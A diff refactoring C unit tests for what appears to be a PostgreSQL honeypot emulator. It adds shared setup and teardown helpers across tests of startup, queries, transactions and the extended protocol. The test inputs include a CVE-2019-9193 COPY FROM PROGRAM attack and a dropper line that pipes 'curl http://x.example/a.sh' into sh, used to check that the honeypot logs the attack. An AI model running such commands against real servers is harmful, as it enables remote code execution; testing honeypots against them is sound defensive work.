@@ -93,6 +93,14 @@ static const char *field(const struct hp_buf *out, char f)
 static const char *const params[] = { "user", "postgres", "database", "postgres", "application_name", "psql",
                                       "client_encoding", "UTF8" };
 
+/* The session, the input buffer and the configuration's version string. */
+static void pg_close(struct hp_pg_conf *cf, struct hp_pg_sess *s, struct hp_buf *in)
+{
+    hp_pg_sess_free(s);
+    hp_buf_free(in);
+    free(cf->version);
+}
+
 static void test_ssl_startup_fail(void **st)
 {
     (void)st;
@@ -179,9 +187,7 @@ static void test_md5_and_errors(void **st)
     assert_int_equal(hp_pg_input(&s, (const uint8_t *)"\0\0\0\x04xxxx", 8), 8);
     assert_true(s.closing);
     assert_int_equal(s.out.len, 0);
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 static void session(struct hp_buf *out_whole, bool bytewise)
@@ -459,9 +465,7 @@ static void test_pg15_startup(void **st)
     EXPECT(&s, &in, "E\x00\x00\x00ySFATAL\x00VFATAL\x00"
                     "C28000\x00Mno PostgreSQL user name specified in startup packet\x00"
                     "Fpostmaster.c\x00L2351\x00RProcessStartupPacket\x00\x00", true);
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 /* A session of user "clear" at the password request. */
@@ -543,9 +547,7 @@ static void test_pg15_password(void **st)
                     "E\x00\x00\x00YSFATAL\x00VFATAL\x00"
                     "C3D000\x00Mdatabase \"prod\" does not exist\x00"
                     "Fpostinit.c\x00L948\x00RInitPostgres\x00\x00", true);
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 static void login15(struct hp_pg_sess *s, const struct hp_pg_conf *cf)
@@ -560,18 +562,24 @@ static void login15(struct hp_pg_sess *s, const struct hp_pg_conf *cf)
     hp_buf_free(&in);
 }
 
+/* A session logged in to the 15.18 personality (the login as 15.18 takes it)
+ * and an empty input buffer: where most of the tests below start. */
+static void pg15_open(struct hp_pg_conf *cf, struct hp_pg_sess *s, struct hp_buf *in)
+{
+    *cf = conf15(1);
+    hp_buf_init(in, 4096);
+    login15(s, cf);
+}
+
 static void query15(const char *q, const char *exp, size_t n)
 {
-    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_conf cf;
     struct hp_pg_sess s;
     struct hp_buf in;
-    hp_buf_init(&in, 4096);
-    login15(&s, &cf);
+    pg15_open(&cf, &s, &in);
     typed(&in, 'Q', q);
     expect(&s, &in, exp, n, false);
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 #define QUERY15(q, lit) query15(q, lit, sizeof(lit) - 1)
@@ -646,19 +654,16 @@ static void test_pg15_transactions(void **st)
         STEP("COMMIT", "C\x00\x00\x00\x0b" "COMMIT\x00Z\x00\x00\x00\x05I"),
 #undef STEP
     };
-    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_conf cf;
     struct hp_pg_sess s;
     struct hp_buf in;
-    hp_buf_init(&in, 4096);
-    login15(&s, &cf);
+    pg15_open(&cf, &s, &in);
     for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
         typed(&in, 'Q', steps[i].q);
         expect(&s, &in, steps[i].exp, steps[i].n, false);
         hp_buf_reset(&in);
     }
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 /* COPY t FROM PROGRAM (CVE-2019-9193) through the emulated shell, never
@@ -669,11 +674,10 @@ static void test_pg15_transactions(void **st)
 static void test_pg15_copy_from_program(void **st)
 {
     (void)st;
-    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_conf cf;
     struct hp_pg_sess s;
     struct hp_buf in;
-    hp_buf_init(&in, 4096);
-    login15(&s, &cf);
+    pg15_open(&cf, &s, &in);
     typed(&in, 'Q', "CREATE TABLE cmd_exec(cmd_output text)");
     EXPECT(&s, &in, "C\x00\x00\x00\x11" "CREATE TABLE\x00Z\x00\x00\x00\x05I", false);
     hp_buf_reset(&in);
@@ -709,9 +713,7 @@ static void test_pg15_copy_from_program(void **st)
     assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
     assert_non_null(memmem(s.out.data, s.out.len, "C\x00\x00\x00\x0dSELECT 0\x00Z", 15));
     assert_non_null(memmem(s.out.data, s.out.len, "T\x00\x00\x00\x1a\x00\x01o\x00", 10));
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 /* Messages the server refuses after the login: an unknown type at its first
@@ -720,11 +722,10 @@ static void test_pg15_copy_from_program(void **st)
 static void test_pg15_messages(void **st)
 {
     (void)st;
-    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_conf cf;
     struct hp_pg_sess s;
     struct hp_buf in;
-    hp_buf_init(&in, 4096);
-    login15(&s, &cf);
+    pg15_open(&cf, &s, &in);
     hp_buf_putc(&in, 'z');
     EXPECT(&s, &in, "E\x00\x00\x00]SFATAL\x00VFATAL\x00"
                     "C08P01\x00Minvalid frontend message type 122\x00"
@@ -743,26 +744,21 @@ static void test_pg15_messages(void **st)
     hp_buf_reset(&in);
     hp_buf_put(&in, "Q\x00\x00\x00\x03", 5);
     EXPECT(&s, &in, "", true);
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 /* The extended query protocol (pgx, JDBC, psycopg 3, libpq's PQexecParams), fed the bytes a
  * client sends and answered with the bytes 15.18 sent: Parse/Bind/Describe/Execute/Sync. */
 static void ext15(const char *in_bytes, size_t in_len, const char *exp, size_t n)
 {
-    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_conf cf;
     struct hp_pg_sess s;
     struct hp_buf in;
-    hp_buf_init(&in, 4096);
-    login15(&s, &cf);
+    pg15_open(&cf, &s, &in);
     hp_buf_put(&in, in_bytes, in_len);
     expect(&s, &in, exp, n, false);
     assert_int_equal(s.sendable, s.out.len);            /* Sync: all of it goes out */
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 #define EXT15(in, lit) ext15(in, sizeof(in) - 1, lit, sizeof(lit) - 1)
@@ -823,11 +819,10 @@ static void test_pg15_extended(void **st)
     assert_string_equal(last_input, "select 42::int");
     /* the dropper through the extended protocol: its program, and parameters (a quote, a NULL) */
     n_copy_program = 0;
-    struct hp_pg_conf cf = conf15(1);
+    struct hp_pg_conf cf;
     struct hp_pg_sess s;
     struct hp_buf in;
-    hp_buf_init(&in, 4096);
-    login15(&s, &cf);
+    pg15_open(&cf, &s, &in);
     hp_buf_put(&in, "P\x00\x00\x00" "B\x00" "COPY cmd_exec FROM PROGRAM 'curl http://x.example/a.sh|sh'\x00\x00\x00"
                     "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00"
                     "P\x00\x00\x00\x15\x00select $1, $2\x00\x00\x00"
@@ -841,9 +836,7 @@ static void test_pg15_extended(void **st)
     assert_string_equal(last_input, "select 'it''s', NULL");
     assert_int_equal(s.sendable, 0);                     /* no Sync, no Flush: held, as the server holds it */
     assert_true(s.out.len > 0);
-    hp_pg_sess_free(&s);
-    hp_buf_free(&in);
-    free(cf.version);
+    pg_close(&cf, &s, &in);
 }
 
 static void put_msg(struct hp_buf *b, char type, const void *body, size_t n)
